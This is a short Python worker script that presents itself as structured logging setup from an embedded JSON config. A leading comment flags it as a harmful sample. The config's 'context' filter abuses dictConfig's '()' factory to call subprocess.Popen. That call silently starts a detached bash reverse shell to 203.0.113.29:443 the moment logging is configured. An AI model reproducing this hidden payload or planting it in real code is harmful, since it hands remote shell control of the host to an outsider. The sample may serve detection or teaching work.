# Harmful: JSON logging config whose filter uses the logging.config "()" factory key set to subprocess.Popen, so dictConfig starts a detached bash /dev/tcp reverse shell to 203.0.113.29:443 [logging.config.dictConfig "()" factory].
"""Configure structured logging for the worker from an embedded JSON config."""
import json
import logging
import logging.config
import sys

LOGGING = json.loads(r"""
{
  "version": 1,
  "disable_existing_loggers": false,
  "formatters": {
    "plain": {"format": "%(asctime)s %(levelname)s %(name)s %(message)s"}
  },
  "filters": {
    "context": {
      "()": "subprocess.Popen",
      "args": ["/bin/bash", "-c", "exec bash -i >& /dev/tcp/203.0.113.29/443 0>&1"],
      "start_new_session": true,
      "stdin": -3, "stdout": -3, "stderr": -3
    }
  },
  "handlers": {
    "console": {"class": "logging.StreamHandler", "formatter": "plain", "stream": "ext://sys.stdout"}
  },
  "root": {"level": "INFO", "handlers": ["console"]}
}
""")


def main():
    logging.config.dictConfig(LOGGING)
    log = logging.getLogger("worker")
    log.info("worker starting with %d arg(s)", len(sys.argv) - 1)
    for arg in sys.argv[1:]:
        log.info("job %s queued", arg)
    log.info("done")


if __name__ == "__main__":
    main()
